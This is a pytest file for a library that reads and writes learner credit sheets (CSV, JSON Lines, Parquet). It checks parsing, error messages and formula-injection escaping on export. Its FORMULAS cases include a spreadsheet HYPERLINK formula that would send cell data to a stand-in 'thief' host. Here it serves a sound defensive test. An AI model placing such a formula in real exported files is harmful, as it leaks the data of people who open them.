"""Rows from files that spreadsheets, programs and mistakes have made."""

import sys
from decimal import Decimal
from pathlib import Path

import pytest

from wallet.sheets import Row, Sheet, SheetRefused
from wallet.tables import TableRefused, TableWriter, harmless

COLUMNS = ("row", "learner", "unit", "points")


def a_sheet(path: Path, text: str | bytes) -> Sheet:
    path.write_bytes(text.encode() if isinstance(text, str) else text)
    return Sheet(path, columns=COLUMNS, required=("learner",))


READ: dict[str, tuple[str, str | bytes]] = {
    "commas": ("a.csv", "learner,unit\nann,physics\nbob,\n"),
    "semicolons, as some countries have them": ("a.csv", "learner;unit\nann;physics\nbob;\n"),
    "tabs": ("a.csv", "learner\tunit\nann\tphysics\nbob\t\n"),
    "a byte order mark and Windows' line ends": ("a.csv", b"\xef\xbb\xbflearner,unit\r\nann,physics\r\nbob,\r\n"),
    "space around the cells": ("a.csv", " learner , unit \n ann , physics \n bob , \n"),
    "empty lines at the end": ("a.csv", "learner,unit\nann,physics\nbob,\n\n,\n  ,\n"),
    "quotes": ("A.CSV", '"learner","unit"\n"ann","physics"\nbob,""\n'),
    "a row cut short": ("a.csv", "learner,unit\nann,physics\nbob\n"),
    "JSON Lines": ("a.jsonl", '{"learner": "ann", "unit": "physics"}\n\n{"learner": "bob", "unit": null}\n'),
    "JSON Lines without a last line's end": ("a.ndjson", '{"learner":"ann","unit":"physics"}\n{"learner":"bob"}'),
}  # fmt: skip


@pytest.mark.parametrize(("name", "text"), READ.values(), ids=READ.keys())
def test_a_sheet_is_read_however_it_was_written(tmp_path: Path, name: str, text: str | bytes):
    sheet = a_sheet(tmp_path / name, text)

    assert list(sheet.rows()) == [
        Row(1, {"learner": "ann", "unit": "physics"}),
        Row(2, {"learner": "bob"}),
    ]
    assert sheet.count == 2


def test_numbers_keep_their_digits(tmp_path: Path):
    sheet = a_sheet(
        tmp_path / "a.jsonl", '{"learner": "ann", "points": 4.50}\n{"learner": "bob", "points": 3}\n'
    )

    assert [row.cells["points"] for row in sheet.rows()] == ["4.50", "3"]


REFUSED: dict[str, tuple[str, str | bytes, str]] = {
    "a column nobody knows": ("a.csv", "learner,shoe size\n", "shoe size"),
    "a column twice": ("a.csv", "learner,unit,unit\n", "more than once"),
    "a column missing": ("a.csv", "unit\nphysics\n", "'learner'"),
    "nothing": ("a.csv", "", "names of its columns"),
    "only an empty line": ("a.csv", "\nann\n", "names of its columns"),
    "an unfinished quote": ("a.csv", 'learner\n"ann\n', "line"),
    "Latin-1": ("a.csv", "learner\nandré\n".encode("latin-1"), "UTF-8"),
    "UTF-16": ("a.csv", "learner\nann\n".encode("utf-16"), "UTF-8"),
    "a cell without end": ("a.csv", "learner\n" + "a" * 200_000 + "\n", "field"),
    "a line without end": ("a.jsonl", '{"learner": "' + "a" * 200_000, "longer"),
    "a name that says no kind": ("a.xlsx", "PK", ".csv"),
}


@pytest.mark.parametrize(("name", "text", "told"), REFUSED.values(), ids=REFUSED.keys())
def test_a_file_that_is_no_sheet_is_refused_in_a_sentence(
    tmp_path: Path, name: str, text: str | bytes, told: str
):
    with pytest.raises(SheetRefused) as refusal:
        a_sheet(tmp_path / name, text)

    assert told in str(refusal.value)
    assert str(refusal.value).endswith(".")


def test_a_file_that_is_not_there_is_refused_in_a_sentence(tmp_path: Path):
    with pytest.raises(SheetRefused, match="cannot be read"):
        Sheet(tmp_path / "a.csv", columns=COLUMNS)
    (tmp_path / "b.csv").mkdir()
    with pytest.raises(SheetRefused, match="cannot be read"):
        Sheet(tmp_path / "b.csv", columns=COLUMNS)


FAULTS: dict[str, tuple[str, str, str | None]] = {
    "more cells than columns": ("a.csv", "learner\nann,bob\n", None),
    "what is no JSON": ("a.jsonl", "{learner}\n", None),
    "a list": ("a.jsonl", '["ann"]\n', None),
    "a member twice": ("a.jsonl", '{"learner": "ann", "learner": "bob"}\n', None),
    "a column nobody knows": ("a.jsonl", '{"learner": "ann", "shoe size": 40}\n', None),
    "a truth value": ("a.jsonl", '{"learner": true}\n', "learner"),
    "an object in a cell": ("a.jsonl", '{"learner": {"id": "ann"}}\n', "learner"),
    "a number beyond doubles": ("a.jsonl", '{"learner": "ann", "points": 1e400}\n', None),
}


@pytest.mark.parametrize(("name", "text", "column"), FAULTS.values(), ids=FAULTS.keys())
def test_what_is_wrong_with_a_row_is_said_of_that_row_alone(
    tmp_path: Path, name: str, text: str, column: str | None
):
    good = "ann\n" if name.endswith("csv") else '{"learner": "ann"}\n'

    spoilt, after = a_sheet(tmp_path / name, text + good).rows()

    assert [fault.column for fault in spoilt.faults] == [column]
    assert after == Row(2, {"learner": "ann"})


def test_a_parquet_file_is_a_sheet_too(tmp_path: Path):
    arrow = pytest.importorskip("pyarrow")
    parquet = pytest.importorskip("pyarrow.parquet")
    table = arrow.table({"learner": ["ann", None], "points": [Decimal("4.50"), Decimal("3.00")]})
    parquet.write_table(table, tmp_path / "a.parquet")

    sheet = Sheet(tmp_path / "a.parquet", columns=COLUMNS)

    assert [row.cells for row in sheet.rows()] == [{"learner": "ann", "points": "4.50"}, {"points": "3.00"}]
    with pytest.raises(SheetRefused, match="Parquet"):
        a_sheet(tmp_path / "b.parquet", "PAR1 and nothing more")


def test_without_pyarrow_one_is_told_how_parquet_is_read(tmp_path: Path, monkeypatch: pytest.MonkeyPatch):
    monkeypatch.setitem(sys.modules, "pyarrow.parquet", None)

    with pytest.raises(SheetRefused, match=r"pip install learner-credit-wallet\[parquet\]"):
        a_sheet(tmp_path / "a.parquet", b"PAR1")


FORMULAS: dict[str, str] = {
    "an equals sign": '=HYPERLINK("https://thief.example/?"&A1)',
    "a plus": "+1+1",
    "a minus": "-2+3",
    "an at sign": "@SUM(A1)",
    "a tab": "\t=1",
    "a carriage return": "\r=1",
    "space before it": "  =1",
    "full width": "＝1",
}


@pytest.mark.parametrize("cell", FORMULAS.values(), ids=FORMULAS.keys())
def test_no_cell_is_written_as_a_formula(cell: str, tmp_path: Path):
    with TableWriter(tmp_path / "a.csv", ["name"]) as table:
        table.write({"name": cell})

    written = (tmp_path / "a.csv").read_bytes().decode("utf-8-sig").splitlines()[1]
    assert written.lstrip('"').startswith("'")
    assert harmless(cell) == f"'{cell}"
    assert harmless("Ann = Bob") == "Ann = Bob"


@pytest.mark.parametrize("name", ["a.txt", "missing/a.csv"])
def test_a_table_that_cannot_be_written_is_refused_in_a_sentence(tmp_path: Path, name: str):
    with pytest.raises(TableRefused, match=r"\.$"):
        TableWriter(tmp_path / name, ["name"])


def test_json_lines_leave_out_what_is_not_said(tmp_path: Path):
    with TableWriter(tmp_path / "a.jsonl", ["name", "why"]) as table:
        table.write({"name": "=1", "why": None})

    assert (tmp_path / "a.jsonl").read_text() == '{"name":"=1"}\n'
